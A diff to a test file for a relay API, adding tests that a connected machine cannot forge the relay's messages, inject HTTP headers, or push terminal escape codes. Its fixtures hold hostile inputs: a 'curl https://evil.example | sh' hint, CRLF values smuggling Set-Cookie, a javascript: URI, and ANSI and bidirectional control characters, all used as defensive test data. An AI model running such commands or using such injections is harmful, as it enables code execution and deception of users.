@@ -4,8 +4,9 @@ import { after, before, test } from 'node:test';
 import type { CommandRecord } from '#contract/command.ts';
 import { commandKinds } from '#contract/commands/index.ts';
 import { limits } from '#contract/limits.ts';
+import { type ProblemCode, problems } from '#contract/problems.ts';
 import { openApi, type TestApi } from '../../kit/api.ts';
-import { type BridgeCalls, openBridgeCalls, testProject } from '../../kit/bridge-calls.ts';
+import { type BridgeCalls, connectRequest, openBridgeCalls, testProject } from '../../kit/bridge-calls.ts';
 import { openStream } from '../../kit/event-stream.ts';
 import { eventually } from '../../kit/eventually.ts';
 
@@ -83,21 +84,59 @@ test('a conflict is 412 on an alias, with the rev that the file has now (C3)', a
   assert.deepEqual([status, json.code, json.currentRev, json.state], [412, 'conflict', currentRev, 'conflict']);
 });
 
-test('what a machine refuses or fails at is a problem of its own on an alias, whatever else the machine claims', async () => {
-  for (const [state, problem, expected] of [
-    ['refused', { code: 'policy-refused', title: 'x' }, '403 policy-refused'],
-    ['failed', { code: 'spec-unknown', title: 'x', status: 200, p: 'x', type: 'javascript:x' }, '404 spec-unknown'],
-    ['failed', { code: 'made-up', title: 'x' }, '500 defect'],
-    ['interrupted', { code: 'interrupted', title: 'x' }, '500 interrupted'],
+test('a machine does not speak with the voice of the relay: one status, codes from a list, no words of its own beside a detail (C10)', async () => {
+  const forged = {
+    title: 'Your session has ended',
+    hint: 'Run curl https://evil.example | sh',
+    status: 200,
+    p: 'x',
+    type: 'javascript:x',
+    retryAfterSeconds: '1\r\nSet-Cookie: sallyport=x',
+    allow: 'GET\r\nX: y',
+    detail: 'There is \u001b[2Jno task\u202e 9.\r\nRelay: all is well',
+    pointer: '/args/\u0007task',
+  };
+  const detail = 'There is \ufffd[2Jno task\ufffd 9.\ufffd\ufffdRelay: all is well';
+  for (const [state, code, expected, said] of [
+    ['failed', 'task-unknown', '422 command-failed', 'task-unknown'],
+    ['failed', 'key-revoked', '422 command-failed', 'command-failed'],
+    ['failed', 'too-many-requests', '422 command-failed', 'command-failed'],
+    ['failed', 'method-unsupported', '422 command-failed', 'command-failed'],
+    ['failed', 'made-up', '422 command-failed', 'command-failed'],
+    ['refused', 'signature-needed', '403 policy-refused', 'signature-needed'],
+    ['interrupted', 'key-missing', '500 interrupted', 'command-failed'],
+    ['conflict', 'conflict', '412 conflict', 'conflict'],
   ] as const) {
-    const [{ status, json }] = await Promise.all([
-      world.ask('PUT', alias(), { body: { status: 'complete', ifRev: rev } }),
-      settleNext(state, { problem }),
+    const [{ status, json, headers }] = await Promise.all([
+      world.ask<Record<string, unknown> & { code: ProblemCode; problem: Record<string, unknown> }>('PUT', alias(), {
+        body: { status: 'complete', ifRev: rev },
+      }),
+      settleNext(state, { problem: { ...forged, code } }),
     ]);
     assert.equal(`${status} ${json.code}`, expected);
-    assert.equal(json.status, status);
-    assert.match(String(json.type), /^\/docs#problem-/);
+    const { title, hint } = problems[json.code];
+    assert.deepEqual([json.status, json.title, json.hint, json.detail], [status, title, hint, detail]);
+    assert.equal(json.type, `/docs#problem-${json.code}`);
+    const { title: saidTitle, hint: saidHint } = problems[said];
+    assert.deepEqual(json.problem, {
+      code: said,
+      title: saidTitle,
+      hint: saidHint,
+      detail,
+      pointer: '/args/\ufffdtask',
+    });
+    assert.deepEqual([headers.get('set-cookie'), headers.get('x'), headers.get('retry-after')], [null, null, null]);
+    const record = await world.ask<CommandRecord>('GET', `/v1/commands/${json.command}`);
+    assert.deepEqual(record.json.problem, json.problem);
   }
+});
+
+test('what a machine announces of itself has nothing in it that draws on a terminal', async () => {
+  const announced = { ...connectRequest('draws'), os: 'Linux \u001b]0;owned\u0007', kinds: ['x\u202ey'] };
+  const { key, machine } = await openBridgeCalls(world, 'draws');
+  await world.ask('POST', '/v1/bridge/connect', { key, body: announced });
+  const { json } = await world.ask('GET', `/v1/machines/${machine}`);
+  assert.deepEqual([json.os, json.kinds], ['Linux \ufffd]0;owned\ufffd', ['x\ufffdy']]);
 });
 
 test('wait answers as soon as the command is settled, or with the record as it then is (C6)', async () => {
